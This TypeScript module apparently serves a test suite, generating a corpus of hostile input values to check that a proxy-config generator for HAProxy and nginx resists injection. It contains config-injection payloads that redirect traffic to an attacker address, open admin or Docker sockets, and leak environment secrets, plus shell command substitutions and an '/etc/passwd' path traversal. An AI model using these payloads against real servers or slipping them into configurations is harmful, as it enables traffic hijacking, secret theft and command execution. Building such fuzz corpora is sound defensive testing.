import { oddNames } from './odd-names.ts'

const dollar = '$'

/** Where an attacker wants traffic and secrets to go. */
export interface Prize {
  /** `host:port` of a server that must never be asked. */
  readonly address: string
  /** A file that must neither be read nor written. */
  readonly file: string
}

// What breaks out of a value: ends of lines, comments, quotes, blanks, blocks, escapes.
const ways: readonly string[] = [
  ...['', ' ', '\n', '\r', '\r\n', '\t', '\n\n', '\n\t'],
  ...['\u0000', '\u0008', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085', '\u00a0', '\u2028', '\u2029', '\ufeff', '\u200b'],
  ...['#', ' #', '"', "'", '\\', '\\\n', '\\n', '\\x0a', '\\x00', '\\"', '";', "';", '"\n', "'\n"],
  ...[';', '; ', '}', '} ', '}}', '{', ')', ']', ' } ', ',', '|', '&', '`', '\n}\n', ';\n}\n', '<<', ' <<\n'],
]

/** What an attacker would want to stand in the file. */
const wishes = ({ address, file }: Prize): readonly string[] => {
  const [host = '', port = ''] = address.split(':')
  return [
    'use_backend evil if TRUE',
    `server evil ${address}`,
    `backend evil\n  server e ${address}`,
    `global\n  stats socket ipv4@${address} level admin`,
    `program x\n  command touch ${file}`,
    `http-response return status 200 content-type text/plain file ${file}`,
    `acl x src -f ${file}`,
    '-m found',
    `http-response set-header x-leak "${dollar}{SECRET}"`,
    '%[env(SECRET)]',
    'unix@/run/docker.sock',
    `} server { listen ${port}; location / { proxy_pass http://${host}:${port}; } } {`,
    `include ${file};`,
    `{{ services }}{% include "${file}" %}`,
  ]
}

// Attacks that stand for themselves, whatever the field.
const alone = ({ address, file }: Prize): readonly string[] => [
  // From the list of attacks that work on a template without rules.
  `evil.example.com\n  use_backend evil_cluster if TRUE`,
  ...[
    '-m found',
    '-m reg .*',
    '-i -m beg a',
    'evil.example.com neutral.example.com',
    `-f ${file}`,
    `-M -f ${file}`,
    '--',
    '-n',
    '-u 1',
  ],
  `x /run/docker.sock #`,
  `program x\n  command sh -c "id>${file}"\n  user root`,
  `global\n  stats socket ipv4@${address} level admin\nbackend evil2`,
  `http-response set-header x-leak "${dollar}{SECRET_TOKEN}"`,
  ...[
    'SECRET',
    `${dollar}SECRET`,
    `"${dollar}SECRET"`,
    `${dollar}{SECRET}`,
    `"${dollar}{SECRET[*]}"`,
    `%[env(SECRET)]`,
    '%[e""nv(SECRET)]',
  ],
  ...[
    '/group/app',
    '/../../etc/cron.d/x',
    '../x',
    '.',
    '..',
    '/',
    '//',
    ':',
    '::',
    '-',
    '--x',
    '_',
    'x--',
    'x--_2f',
    '~',
    '*',
    '*.',
    '*.*',
  ],
  // Sections, one by one.
  ...[
    'global',
    'defaults',
    'frontend x',
    'backend x',
    'listen x',
    'peers x',
    'resolvers x',
    'mailers x',
    'userlist x',
    'program x',
  ],
  ...[
    'http-errors x',
    'ring x',
    'cache x',
    'log-forward x',
    'log-profile x',
    'fcgi-app x',
    'crt-store x',
    'traces',
    'acme x',
  ].flatMap(section => [section, `a\n${section}`]),
  ...['.if 1', '.else', '.endif', '.notice x', '.alert x', '.diag x', 'no .if'],
  // Names that mean something to one of the languages.
  ...[
    'from',
    'if',
    'unless',
    'or',
    'default',
    'default_server',
    'unix',
    'unix:',
    'localhost',
    'http',
    'tcp',
    'common',
    'system',
    'GLOBAL',
    'MASTER',
  ],
  ...[
    'true',
    'false',
    'null',
    'nil',
    'blank',
    'empty',
    'forloop',
    'constructor',
    'prototype',
    '__proto__',
    'toString',
    'hasOwnProperty',
  ],
  // Directives that lead out.
  `server evil ${address} check`,
  `default-server addr ${address}`,
  `default-server addr unix@/run/docker.sock`,
  `http-check connect addr unix@/run/docker.sock\nhttp-check send meth POST uri /containers/create body {}`,
  `tcp-check connect addr ${address}`,
  `server\\x00x evil ${address}`,
  `http-request return status 200 content-type a\\\tfile ${file}`,
  `use-server evil if TRUE\nserver evil ${address}`,
  `errorfile 503 ${file}`,
  `http-error status 500 file ${file}`,
  `http-request return status 200 content-type a lf-file ${file}`,
  `http-request set-map(${file}) a b`,
  `http-request set-map!${file}) a b`,
  `http-request set-header a %[src,map_ip(${file})]`,
  `http-request set-header a %[req.hdr(a),jwt_verify("RS256","${file}")]`,
  `http-request lua.run`,
  `lua-load ${file}`,
  `filter spoe engine x config ${file}`,
  `filter trace name x`,
  `option external-check\nexternal-check command ${file}`,
  `log ${address} local0`,
  `log ${file} local0`,
  `stats socket ${file} level admin`,
  `stats enable`,
  `http-request use-service prometheus-exporter`,
  `bind ${address}`,
  `dispatch ${address}`,
  `option transparent`,
  `source 0.0.0.0 usesrc clientip`,
  `no bind ${address}`,
  `balance first\\\nserver evil ${address}`,
  `load-server-state-from-file global`,
  // nginx.
  ...[
    `root /;`,
    `alias /etc/;`,
    `include ${file};`,
    `load_module ${file};`,
    `error_log ${file};`,
    `access_log ${file};`,
    `perl_set $x "sub {}";`,
  ],
  ...[`js_content x;`, `content_by_lua_block { os.execute("touch ${file}") }`, `lua_code_cache off;`, `ssl_certificate ${file};`],
  ...[
    `auth_basic_user_file ${file};`,
    `client_body_temp_path ${file};`,
    `proxy_pass http://${address};`,
    `proxy_pass http://unix:/run/docker.sock;`,
  ],
  ...[
    `fastcgi_pass ${address};`,
    `return 200 "evil";`,
    `rewrite ^ http://${address}/;`,
    `try_files ${file} =404;`,
    `listen ${address};`,
  ],
  ...[
    `if (-f ${file}) { return 403; }`,
    `proxy_ssl_conf_command Certificate ${file};`,
    `proxy_store ${file};`,
    `server_name evil;`,
    `resolver ${address};`,
  ],
  `a; } location /evil { root /; autoindex on; } location /x {`,
  `a"; } server { listen ${address}; } #`,
  `a {b} c`,
  `${dollar}{`,
  `${dollar}http_host`,
  // Shells, in case a value ever reaches one.
  ...[
    `;touch ${file}`,
    `$(touch ${file})`,
    `\`touch ${file}\``,
    `|touch ${file}`,
    `&& touch ${file}`,
    "'; x '",
    '%s',
    '%n%n%n',
    '../../../../etc/passwd',
  ],
]

/** A corpus of hostile values, each one once. */
export function hostileValues(prize: Prize): readonly string[] {
  const built = ways.flatMap((way, index) =>
    wishes(prize).map(wish => `${index % 2 === 0 ? 'a.example.com' : '/a'}${way}${wish}`),
  )
  return [...new Set([...alone(prize), ...oddNames, ...built])]
}
